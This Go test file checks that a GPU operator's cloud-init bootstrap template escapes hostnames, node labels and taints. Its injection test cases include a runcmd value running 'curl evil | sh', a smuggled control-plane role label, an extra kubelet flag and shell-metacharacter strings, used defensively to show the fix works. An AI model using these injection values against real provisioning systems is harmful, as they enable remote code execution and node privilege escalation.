package bootstrap

import (
	"encoding/json"
	"os/exec"
	"regexp"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/yaml"

	tgpv1 "github.com/solanyn/gpu-operator/pkg/apis/tgp/v1"
)

func TestKubeletFlags(t *testing.T) {
	labels := map[string]string{
		"z.example.com/last": "1", "a": "", "tgp.solanyn.com/request": "train",
		"evil": "x,node-role.kubernetes.io/control-plane=true", // a comma adds a label
		"eq":   "a=b", "sp": "a --pod-manifest-path=/x", "nl": "a\nb", "q": `a"b`,
		"bad key=1": "v", "": "v", "k": strings.Repeat("v", 64),
	}
	if got, want := KubeletLabels(labels), "a=,tgp.solanyn.com/request=train,z.example.com/last=1"; got != want {
		t.Errorf("KubeletLabels = %q, want %q", got, want)
	}
	taints := []tgpv1.NodeTaint{
		{Key: "nvidia.com/gpu", Value: "true", Effect: corev1.TaintEffectNoSchedule},
		{Key: "dedicated", Effect: corev1.TaintEffectNoExecute},
		{Key: "a", Value: "b:NoSchedule,c=d", Effect: corev1.TaintEffectNoSchedule},
		{Key: "b", Value: "x", Effect: "NoSchedule --v=9"},
		{Key: "", Value: "x", Effect: corev1.TaintEffectPreferNoSchedule},
		{Key: "last", Value: "1", Effect: corev1.TaintEffectPreferNoSchedule},
	}
	if got, want := KubeletTaints(taints), "nvidia.com/gpu=true:NoSchedule,dedicated=:NoExecute,last=1:PreferNoSchedule"; got != want {
		t.Errorf("KubeletTaints = %q, want %q", got, want)
	}
	if KubeletLabels(nil) != "" || KubeletTaints(nil) != "" {
		t.Error("no labels or taints should give empty flags")
	}
}

func TestNewData(t *testing.T) {
	req := &tgpv1.GPURequest{ObjectMeta: metav1.ObjectMeta{Name: "train", Namespace: "team-a"}}
	req.Spec.NodeTaints = []tgpv1.NodeTaint{{Key: "gpu", Effect: corev1.TaintEffectNoSchedule}}
	labels := map[string]string{"b": "2", "a": "1"}
	got := NewData(req, "tgp-1", "lambda", "us-east-1", labels)
	want := Data{
		NodeName: "tgp-1", RequestName: "train", RequestNamespace: "team-a", Provider: "lambda", Region: "us-east-1",
		Labels: labels, Taints: req.Spec.NodeTaints, KubeletLabels: "a=1,b=2", KubeletTaints: "gpu=:NoSchedule",
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("NewData (-want +got):\n%s", d)
	}
}

var kubeletLine = regexp.MustCompile(`^KUBELET_EXTRA_ARGS='--node-labels=([^' ]*) --register-with-taints=([^' ]*)'\n$`)

// renderDefault renders DefaultTemplate and checks its shape: only the
// keys hostname and write_files, one file, one kubelet line. It returns
// the hostname and the flags' values.
func renderDefault(t *testing.T, data Data) (host string, labels, taints []string) {
	t.Helper()
	out, err := Render(DefaultTemplate, data, Limits{MaxBytes: 16 << 10})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(out, "#cloud-config\n") {
		t.Fatalf("output does not start with #cloud-config:\n%s", out)
	}
	var doc map[string]any
	if err := yaml.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatalf("output is not YAML: %v\n%s", err, out)
	}
	keys := make([]string, 0, len(doc))
	for k := range doc {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	if !slices.Equal(keys, []string{"hostname", "write_files"}) {
		t.Fatalf("top-level keys %v, want [hostname write_files]:\n%s", keys, out)
	}
	host, _ = doc["hostname"].(string)
	files, _ := doc["write_files"].([]any)
	if len(files) != 1 {
		t.Fatalf("write_files = %v, want one file", doc["write_files"])
	}
	file, _ := files[0].(map[string]any)
	if len(file) != 2 || file["path"] != "/etc/default/kubelet" {
		t.Fatalf("file = %v, want path /etc/default/kubelet and content", file)
	}
	content, _ := file["content"].(string)
	m := kubeletLine.FindStringSubmatch(content)
	if m == nil {
		t.Fatalf("content %q is not one KUBELET_EXTRA_ARGS line with the two flags", content)
	}
	split := func(s string) []string {
		if s == "" {
			return nil
		}
		return strings.Split(s, ",")
	}
	return host, split(m[1]), split(m[2])
}

func TestDefaultTemplate(t *testing.T) {
	data := testData(2)
	host, labels, taints := renderDefault(t, data)
	if host != data.NodeName {
		t.Errorf("hostname %q, want %q", host, data.NodeName)
	}
	if want := []string{"example.com/l00=v00", "example.com/l01=v01"}; !slices.Equal(labels, want) {
		t.Errorf("labels %q, want %q", labels, want)
	}
	if want := []string{"nvidia.com/gpu=true:NoSchedule", "example.com/dedicated=:NoExecute"}; !slices.Equal(taints, want) {
		t.Errorf("taints %q, want %q", taints, want)
	}
	// The same as provision.go's template before this package for benign
	// data, but for the kubelet flags' quotes: single quotes need no escape
	// inside the YAML string, so parsers of the user data (the simulators'
	// node agent, a reader of the file) see the flags as written.
	was, err := plainRender(strings.ReplaceAll(oldDefault, `"`, `'`), data)
	if err != nil {
		t.Fatal(err)
	}
	now, _ := Render(DefaultTemplate, data, Limits{})
	var a, b any
	if err := yaml.Unmarshal([]byte(was), &a); err != nil {
		t.Fatal(err)
	}
	if err := yaml.Unmarshal([]byte(now), &b); err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(a, b); d != "" {
		t.Errorf("DefaultTemplate differs from the old template's document (-old +new):\n%s", d)
	}
}

// oldDefault is provision.go's defaultBootstrap before this package.
const oldDefault = `#cloud-config
hostname: {{ .NodeName }}
write_files:
  - path: /etc/default/kubelet
    content: |
      KUBELET_EXTRA_ARGS="--node-labels={{ .KubeletLabels }} --register-with-taints={{ .KubeletTaints }}"
`

func TestDefaultTemplateEscapes(t *testing.T) {
	// What the escaping prevents: the old template and unchecked flags
	// let a value add a cloud-init key and a kubelet label.
	evil := "x\nruncmd:\n  - [sh, -c, 'curl evil | sh']"
	out, err := plainRender(oldDefault, Data{NodeName: evil, KubeletLabels: "a=x,node-role.kubernetes.io/control-plane=true"})
	var doc map[string]any
	if err != nil || yaml.Unmarshal([]byte(out), &doc) != nil || doc["runcmd"] == nil || !strings.Contains(out, ",node-role") {
		t.Fatalf("the old template resists the injection (%v): the test tests nothing\n%s", err, out)
	}

	hostile := []string{
		"x\nruncmd:\n  - [sh, -c, 'curl evil | sh']",
		"x\"\nruncmd: [reboot]\n\"",
		"x' \nbootcmd: [id]",
		"x,node-role.kubernetes.io/control-plane=true",
		"a=b --pod-manifest-path=/tmp",
		"x\\\"\n#",
		"\u2028runcmd: [id]\u0085users: []",
		"x\x00\x7f\x1b[2J\xff",
		"{{ .Labels }}",
	}
	for _, v := range hostile {
		req := &tgpv1.GPURequest{ObjectMeta: metav1.ObjectMeta{Name: "r", Namespace: "n"}}
		req.Spec.NodeTaints = []tgpv1.NodeTaint{
			{Key: "gpu", Value: "true", Effect: corev1.TaintEffectNoSchedule},
			{Key: "t", Value: v, Effect: corev1.TaintEffectNoSchedule},
			{Key: v, Value: "x", Effect: corev1.TaintEffectNoSchedule},
			{Key: "e", Value: "x", Effect: corev1.TaintEffect(v)},
		}
		labels := map[string]string{"ok": "1", "v": v, v: "k", "z": "2"}
		data := NewData(req, v, "p", "r", labels)
		host, gotLabels, gotTaints := renderDefault(t, data)
		if want := strings.ToValidUTF8(v, "\ufffd"); host != want {
			t.Errorf("%q: hostname %q, want the value itself", v, host)
		}
		if want := []string{"ok=1", "z=2"}; !slices.Equal(gotLabels, want) {
			t.Errorf("%q: kubelet labels %q, want %q", v, gotLabels, want)
		}
		if want := []string{"gpu=true:NoSchedule"}; !slices.Equal(gotTaints, want) {
			t.Errorf("%q: kubelet taints %q, want %q", v, gotTaints, want)
		}
	}
}

func TestQuoteYAML(t *testing.T) {
	for _, s := range []string{
		"", "plain", "a: b", "- x", "'q'", `"dq"`, `back\slash`, "new\nline", "tab\there", "cr\rx",
		"\x00\x01\x1f\x7f", "\u0085\u009f\u00a0", "\u2028\u2029", "\ufeffbom", "\ufffe\uffff", "é日本😀",
		"# not a comment", "&anchor *alias !tag", "{a: 1}", "[1, 2]", "null", "true", "0x10", "~",
	} {
		q := quoteYAML(s)
		var fromJSON, fromYAML string
		if err := json.Unmarshal([]byte(q), &fromJSON); err != nil || fromJSON != s {
			t.Errorf("%q: %s as JSON = %q, %v", s, q, fromJSON, err)
		}
		if err := yaml.Unmarshal([]byte("k: "+q), &struct{ K *string }{&fromYAML}); err != nil || fromYAML != s {
			t.Errorf("%q: %s as YAML = %q, %v", s, q, fromYAML, err)
		}
		for _, c := range q {
			if c < 0x20 || 0x7f <= c && c <= 0x9f || c == 0x2028 || c == 0x2029 || c == 0xfeff || c == 0xfffe || c == 0xffff {
				t.Errorf("%q: %q has the raw character %U", s, q, c)
			}
		}
	}
	if got := quoteYAML("a\xffb"); got != `"a\ufffdb"` {
		t.Errorf("invalid UTF-8: %s", got)
	}
}

func TestQuoteShell(t *testing.T) {
	cases := []string{"", "plain", "it's", "'", "''", "$(id) `id` $HOME \\ \" ; | & > <", "new\nline", "*?[a]"}
	for _, s := range cases {
		if got := quoteShell(s); got == "" || got[0] != '\'' || got[len(got)-1] != '\'' {
			t.Errorf("%q: %s is not single-quoted", s, got)
		}
	}
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh to check the quoting with")
	}
	for _, s := range cases {
		out, err := exec.Command(sh, "-c", "printf '%s' "+quoteShell(s)).Output()
		if err != nil || string(out) != s {
			t.Errorf("sh printf %s = %q, %v; want %q", quoteShell(s), out, err, s)
		}
	}
}
